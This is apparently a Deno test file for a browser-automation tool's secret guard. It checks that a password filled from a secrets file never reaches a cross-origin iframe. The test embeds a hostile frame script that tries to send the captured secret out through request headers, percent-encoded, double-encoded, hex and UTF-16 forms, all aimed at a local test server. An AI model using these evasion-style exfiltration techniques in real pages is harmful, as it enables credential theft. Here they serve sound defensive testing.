/**
 * The secret-origin guard reads request headers and percent-decodes (red team s13 #6): a bound
 * page hands the filled value to a cross-origin frame (an ad on the allowed page), which sends
 * it home in a request header, with a letter percent-encoded (`%48unter…`), with a lowercase
 * escape (`%2f`), in a form body encoded the same way, percent-encoded twice, as hex and as a
 * UTF-16 body. Its server never gets the value; a
 * request without it still goes (the frame ran), and the value's own origin still gets it.
 */
import { join } from "node:path";
import { assertEquals, assertTrue } from "./_assert.ts";
import { startStdio } from "./_mcp.ts";
import { eventually } from "./_util.ts";

const SECRET = "Hunter2/SecretXyz";

/** The frame's script: every way out it tries, then a request without the value. */
const FRAME = `<p>widget</p><script>
onmessage = async (e) => {
  const v = e.data, go = (u, o) => fetch(u, o).catch(() => {});
  await Promise.all([
    go("/x/hdr", { headers: { "x-steal": v } }),
    go("/x/hdrenc", { headers: { "x-steal": encodeURIComponent(v).replace("H", "%48") } }),
    go("/x/case?" + v.replace("H", "%48")),
    go("/x/lower?" + v.replace("/", "%2f")),
    go("/x/body", { method: "POST", body: "k=" + v.replace("S", "%53").replace("/", "%2F") }),
    go("/x/twice?" + [...v].map((c) => "%25" + c.charCodeAt(0).toString(16)).join("")),
    go("/x/hex?" + [...new TextEncoder().encode(v)].map((b) => b.toString(16).padStart(2, "0")).join("")),
    go("/x/utf16", { method: "POST", body: Uint16Array.from(v, (c) => c.charCodeAt(0)) }),
  ]);
  await go("/alive");
  parent.postMessage("done", "*");
};</script>`;

/** `text` percent-decoded once (a stray `%` kept). */
const decoded = (text: string) => decodeURIComponent(text.replace(/%(?![0-9a-f]{2})/gi, "%25"));
const HEX = [...new TextEncoder().encode(SECRET)].map((b) => b.toString(16).padStart(2, "0"))
  .join("");

/** Whether a request carries the value: as sent, percent-decoded once or twice, hex, UTF-16. */
function carries(text: string): boolean {
  return [text, decoded(text), decoded(decoded(text)), text.replaceAll("\0", "")].some((t) =>
    t.includes(SECRET)
  ) || text.includes(HEX);
}

Deno.test("secret guard: headers and any percent-encoding are read", async () => {
  const hits: Array<{ srv: string; text: string }> = [];
  const serve = (srv: string, page: (u: URL) => string) =>
    Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (req) => {
      const u = new URL(req.url);
      const headers = [...req.headers].map(([k, v]) => `${k}: ${v}`).join("\n");
      hits.push({
        srv,
        text: `${req.method} ${u.pathname}${u.search}\n${headers}\n${await req.text()}`,
      });
      return new Response(page(u), {
        headers: { "content-type": "text/html", "access-control-allow-origin": "*" },
      });
    });
  const b = serve("B", (u) => u.pathname === "/frame" ? FRAME : "ok");
  const bOrigin = `http://localhost:${b.addr.port}`;
  const a = serve(
    "A",
    (u) =>
      u.pathname === "/login"
        ? `<label>Password <input id=pw type=password></label>
<form method=post action=/home><input type=hidden id=h name=h><button id=home>home</button></form>
<iframe id=ifr src="${bOrigin}/frame"></iframe><script>
pw.addEventListener("input", () => {
  h.value = pw.value;
  if (pw.value.length >= ${SECRET.length}) ifr.contentWindow.postMessage(pw.value, "*");
});
onmessage = () => fetch("/frame-done");</script>`
        : "ok",
  );
  const aOrigin = `http://127.0.0.1:${a.addr.port}`;
  const ws = await Deno.makeTempDir({ prefix: "browxai-test-exfil-" });
  const secrets = join(ws, "secrets.env");
  await Deno.writeTextFile(secrets, `PW@${aOrigin}=${SECRET}\n`, { mode: 0o600 });
  const mcp = await startStdio({
    workspace: ws,
    env: { BROWX_CAPABILITIES: "read,navigation,action,secrets", BROWX_SECRETS: secrets },
  });
  try {
    await mcp.ok("navigate", { url: `${aOrigin}/login`, snapshot: "none" });
    await eventually(() => hits.some((h) => h.text.startsWith("GET /frame")), 5000, "the frame");
    await mcp.call("fill", { selector: "#pw", value: "{{secret:PW}}", snapshot: "none" });
    await eventually(
      () => hits.some((h) => h.srv === "A" && h.text.startsWith("GET /frame-done")),
      10_000,
      "the frame's tries",
    );
    const b = hits.filter((h) => h.srv === "B");
    assertTrue(b.some((h) => h.text.startsWith("GET /alive")), "the frame ran");
    assertEquals(b.filter((h) => carries(h.text)).map((h) => h.text.split("\n")[0]), []);
    // Its own origin still gets it.
    await mcp.ok("click", { selector: "#home", submits: true, snapshot: "none" });
    await eventually(
      () =>
        hits.some((h) =>
          h.srv === "A" && h.text.startsWith("POST /home") &&
          carries(h.text)
        ),
      5000,
      "the value at its own origin",
    );
  } finally {
    await mcp.close();
    await a.shutdown();
    await b.shutdown();
    await Deno.remove(ws, { recursive: true }).catch(() => {});
  }
});
